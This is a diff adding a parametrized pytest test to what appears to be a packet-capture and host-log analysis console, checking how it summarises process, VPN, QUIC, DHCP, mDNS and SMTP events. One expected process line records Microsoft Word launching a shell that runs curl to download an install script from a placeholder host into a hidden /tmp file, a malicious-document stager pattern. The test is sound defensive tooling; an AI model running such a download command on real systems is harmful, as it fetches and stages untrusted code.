@@ -187,3 +187,25 @@ def test_tab_completes_fields_events_and_the_api():
         assert os.waitstatus_to_exitcode(status) == 0
     finally:
         os.close(terminal.fd)
+
+
+@pytest.mark.parametrize("capture, kind, wanted", [
+    ("document.pcapng.gz", "process", [
+        "exec /bin/sh (811) sh -c curl -s http://updates.sample.example/install.sh -o /tmp/.i < Microsoft Word",
+        "fork /bin/sh (812) < sh",
+        "exec /usr/bin/curl (812) curl -s http://updates.sample.example/install.sh -o /tmp/.i < sh",
+        "exit /usr/bin/curl (812) with 0"]),
+    ("vpn.pcapng.gz", "vpn", ["192.168.7.23 → 198.51.100.22  ipsec esp data, certain: IP protocol 50, SPI c1f4a001"]),
+    ("quic.pcapng.gz", "quic", ["192.168.7.23:51001 → 203.0.113.10:443  version 2 example.com [alpn]"]),
+    ("lan.pcapng.gz", "dhcp", ["request 192.168.7.23 for f0:18:98:5e:21:07 Annas-MacBook-Pro (macOS 12 or later)",
+                               "[fe80::f218:98ff:fe5e:2107]:546 → [ff02::1:2]:547  solicit"]),
+    ("lan.pcapng.gz", "mdns", ["looks for _airplay._tcp, _raop._tcp, _universal._sub._ipp._tcp",
+                               "tells Anna’s MacBook Pro _companion-link._tcp at annas-macbook-pro.local"]),
+    ("text-protocols.pcapng.gz", "smtp", ["mail from <anna@mail.example> to bo@far.example, nobody@far.example (250)", "STARTTLS"]),
+])
+def test_the_line_of_an_event_says_the_essential(capture, kind, wanted):
+    log = ["--host-log", EXAMPLES / "document.eslogger.jsonl"] if kind == "process" else []
+    shown = console([f"next {kind}"] * 20, *log, capture=EXAMPLES / capture)
+    for line in wanted:
+        assert line in shown
+    assert ":::0" not in shown
